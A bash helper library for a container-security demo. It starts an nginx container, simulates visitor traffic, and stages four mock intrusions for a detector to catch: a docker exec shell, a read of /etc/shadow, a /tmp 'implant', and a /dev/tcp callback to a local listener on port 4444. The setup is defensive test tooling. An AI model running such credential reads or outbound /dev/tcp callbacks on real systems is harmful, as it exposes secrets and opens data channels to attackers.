# Sourced: the demo's web server, what its visitors ask of it, and what an intruder does to it.
# Every function takes the container's name. Needs lib/images.sh and an engine that answers.

readonly WEBSERVER_IMAGE=nginx:demo
readonly WEBSERVER_LABEL=plumbline.demo=$$
readonly WEBSERVER_TOOLS=$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)

webserver_make_image() {
    image_build nginx
    docker tag "$IMAGES_PREFIX/nginx" "$WEBSERVER_IMAGE"
    IMAGES_MADE+=("$WEBSERVER_IMAGE")
}

# Writes the site's files into directory $1.
webserver_make_site() {
    local number
    mkdir -p "$1/articles" "$1/assets"
    echo '<!doctype html><title>Plumbline</title><h1>It hangs true</h1>' >"$1/index.html"
    for number in $(seq 100 129); do
        echo "<!doctype html><title>Article $number</title>" >"$1/articles/article-$number.html"
        echo "// asset $number" >"$1/assets/$(printf %s "$number" | sha256sum | cut -c1-12).js"
    done
    chmod -R a+rX "$1"
}

# Starts container $1, which serves directory $2.
webserver_start() {
    docker run -d --name "$1" --label "$WEBSERVER_LABEL" --network none -v "$2:/srv/www:ro" \
        "$WEBSERVER_IMAGE" >/dev/null
}

webserver_stop() { docker rm -f "$1" >/dev/null 2>&1 || true; }

webserver_pid() { docker inspect -f '{{.State.Pid}}' "$1"; }

# One round of visits to container $1, which serves directory $2: every page, a missing one, and an upload.
# They come from outside of the container, through its network namespace.
webserver_visit() {
    {
        (cd "$2" && find . -type f -printf 'GET http://127.0.0.1/%P\n' | sort)
        echo "GET http://127.0.0.1/"
        echo "GET http://127.0.0.1/no-such-page"
        echo "PUT http://127.0.0.1/uploads/note.txt hello"
    } | nsenter -t "$(webserver_pid "$1")" -n "$WEBSERVER_TOOLS/traffic/http"
}

# The four deeds; deed_evidence gives an expression that the report of one matches.
readonly DEEDS="shell shadow implant callback"
deed_title() {
    case $1 in
    shell) echo "a shell through docker exec" ;;
    shadow) echo "a read of /etc/shadow" ;;
    implant) echo "a binary that the image does not have, dropped into /tmp and run" ;;
    callback) echo "an outbound connection to 127.0.0.1:4444, where somebody listens" ;;
    esac
}
deed_evidence() {
    case $1 in
    shell) echo ' sh ran ' ;;
    shadow) echo ' read /etc/shadow$' ;;
    implant) echo ' implant ran .*/tmp/implant' ;;
    callback) echo ' connects to .*4444' ;;
    esac
}
# Prints the command that does deed $1 in container $2, for the reader; deed_do runs just that.
deed_command() {
    case $1 in
    shell) echo "docker exec $2 sh -c 'id >/dev/null'" ;;
    shadow) echo "docker exec $2 cat /etc/shadow >/dev/null" ;;
    implant) echo "docker exec $2 sh -c 'cp /bin/true /tmp/implant && /tmp/implant'" ;;
    callback) echo "docker exec $2 bash -c 'echo data >/dev/tcp/127.0.0.1/4444'" ;;
    esac
}
deed_do() {
    local listener=
    if [ "$1" = callback ]; then
        nsenter -t "$(webserver_pid "$2")" -n "$WEBSERVER_TOOLS/traffic/listener" 4444 &
        listener=$!
        nsenter -t "$(webserver_pid "$2")" -n "$WEBSERVER_TOOLS/traffic/listener" --wait 4444
    fi
    eval "$(deed_command "$1" "$2")"
    [ -z "$listener" ] || wait "$listener"
}
